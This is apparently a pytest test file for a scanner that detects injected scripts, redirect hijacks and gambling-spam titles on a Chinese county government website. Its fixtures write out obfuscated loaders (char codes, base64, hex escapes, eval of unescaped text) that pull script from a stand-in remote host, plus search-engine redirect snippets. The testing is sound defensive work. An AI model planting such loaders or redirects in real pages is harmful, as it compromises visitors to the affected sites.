"""Scripts and titles of intruders as the eighteenth blind set showed them, by cause."""

from __future__ import annotations

from base64 import b64encode
from datetime import date

import pytest
from read_tools import read
from site_facts import WINDOWS, facts

from xuncha.checks.injection.check import observe as observe_injection
from xuncha.facts import Site
from xuncha.read.intruders.signs import telling_signs

HOME = "http://www.shili.gov.cn/"
SITE = Site(HOME, "示例县人民政府", "4101000001")


def injected(body: str, head: str = "", title: str = "示例县人民政府") -> set[str]:
    html = f"<html><head><title>{title}</title>{head}</head><body>{body}</body></html>"
    signs = telling_signs([read(HOME, html, date(2026, 6, 1))])
    seen = observe_injection(facts(site=SITE, signs=signs), WINDOWS)
    return {one.name for one in seen} - {"leaving_notice_unknown"}


def script(code: str) -> str:
    return f"<script>{code}</script>"


def codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def coded(text: str) -> str:
    return b64encode(text.encode()).decode()


FAR = "http://js.yuanfang.example/a.js"
ELEMENTS = {
    "by the codes of its letters": f"var e=document.createElement(String.fromCharCode({codes('script')}));e.src=String.fromCharCode({codes(FAR)});document.head.appendChild(e);",
    "by words in base64": f"var w=['{coded('script')}','{coded(FAR)}'];var s=document.createElement(atob(w[0]));s.src=atob(w[1]);document.head.appendChild(s);",
    "by its name in brackets": "var s=document.createElement('script');s['src']='http://js.yuanfang.example/a.js';document.head.appendChild(s);",
    "by the letters in hexadecimal": 's=document.createElement("script");s["\\x73\\x72\\x63"]="'
    + "".join(f"\\x{ord(c):02x}" for c in FAR)
    + '";document.head.appendChild(s);',
    "by a list that is written": "var t=[\"<script src='http://js.yuanfang.example/a.js'><\\/script>\"];document.write(t);",
    "by a decoder of its own": f"function jie(e){{var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';return e}}(function(u,d,c){{var s=d.createElement('scri'+c);s.src=jie(u);d.body.appendChild(s)}})('{coded(FAR)}',document,'pt');",
}


@pytest.mark.parametrize("way", ELEMENTS)
def test_an_element_that_a_script_makes(way: str) -> None:
    assert injected(script(ELEMENTS[way])) & {"foreign_script", "script_trick"}
    own = ELEMENTS[way].replace(FAR, "/js/a.js").replace(coded(FAR), coded("/js/a.js"))
    own = own.replace(codes(FAR), codes("/js/a.js"))
    own = own.replace("".join(f"\\x{ord(c):02x}" for c in FAR), "/js/a.js")
    assert injected(script(own)) == set()


ENGINE = "var r=/\\.(baidu|sogou|so)\\./;if(r.test(document.referrer)){%s}"


@pytest.mark.parametrize(
    "leads, is_trick",
    [
        ("location.href='http://bc.example/1.html'", True),
        ("location.href='//bc.example/1.html'", True),
        ("location.replace('http://203.0.113.7:81/')", True),
        ("location.href=u", True),
        ("location.href='zt/qs.shtml'", False),
        ("window.location='/zt/'", False),
        ("location.href='http://www.shili.gov.cn/zt/'", False),
        ("location.assign('http://zt.shili.gov.cn/')", False),
    ],
)
def test_who_searched_may_be_led_to_a_page_of_the_site_itself(leads: str, is_trick: bool) -> None:
    assert injected(script(ENGINE % leads)) == ({"script_trick"} if is_trick else set())


@pytest.mark.parametrize(
    "head, is_led",
    [
        ('<meta http-equiv="refresh" content="0;url=http://bc.example/">', True),
        ("<META HTTP-EQUIV=REFRESH CONTENT=\"3; URL='https://bc.example/a'\">", True),
        ('<meta http-equiv="refresh" content="0;url=/index.html">', False),
        ('<meta http-equiv="refresh" content="600">', False),
        ('<meta http-equiv="refresh" content="0;url=http://zw.shili.gov.cn/">', False),
        # The county's site has moved.
        ('<meta http-equiv="refresh" content="0;url=http://www.other.gov.cn/">', False),
    ],
)
def test_a_refresh_to_a_stranger(head: str, is_led: bool) -> None:
    text = "<p>" + "县政府召开常务会议。" * 40 + "</p>"
    assert injected(text, head) == ({"script_trick"} if is_led else set())


@pytest.mark.parametrize(
    "code, is_led",
    [
        ("if(document.cookie.indexOf('k=')==-1){document.cookie='k=1';window.location='http://bc.example/'}", True),
        ("setTimeout(function(){location.replace('http://bc.example/')},900)", True),
        ("window.addEventListener('load',function(){location.href='http://bc.example/'})", True),
        ("function go(){location.href='http://bc.example/'}", False),
        ("if(confirm('即将离开本网站')){location.href='http://bc.example/'}", False),
        ("$('#a').click(function(){location.href='http://bc.example/'})", False),
        ("b.onclick=()=>{location.href='http://bc.example/'}", False),
        ("setTimeout(function(){location.replace('/index.html')},900)", False),
    ],
)  # fmt: skip
def test_a_script_that_leads_every_visitor_to_a_stranger(code: str, is_led: bool) -> None:
    text = "<p>" + "县政府召开常务会议。" * 40 + "</p>"
    assert injected(text + script(code)) == ({"script_trick"} if is_led else set())
    # An address without a page sends its visitors on, and so does a site that has moved.
    assert injected(script(code)) == set()
    assert injected(text + "<p>本网站已改版，请访问新网址。</p>" + script(code)) == set()


@pytest.mark.parametrize(
    "title, is_sold",
    [
        ("SITUS SLOT GACOR HARI INI", True),
        ("Slot777 Gacor Maxwin - Daftar Togel Online", True),
        ("Online Casino Bonus | Best Poker Sites", True),
        ("Casino Royale：县图书馆外文读书会", False),
        ("Time slot booking for visitors", False),
        ("Poker-faced: a lecture on portraits", False),
    ],
)
def test_the_trade_in_english(title: str, is_sold: bool) -> None:
    assert ("page_defaced" in injected("<p>县政府</p>", title=title)) is is_sold


def test_the_weather_of_a_portal_is_no_stranger() -> None:
    frame = '<iframe src="http://tianqi.2345.com/plugin/widget/index.htm?s=3"></iframe>'
    assert injected(frame) == set()


def test_eval_by_its_name_in_brackets() -> None:
    written = "".join(f"%{ord(c):02x}" for c in f"document.write('<script src={FAR}></script>')")
    assert injected(script(f"window['eval'](unescape('{written}'))")) == {"script_trick"}
    shown = "".join(
        f"%{ord(c):02x}" for c in "document.title='示例县'".encode("ascii", "ignore").decode()
    )
    assert injected(script(f"window['eval'](unescape('{shown}'))")) == set()
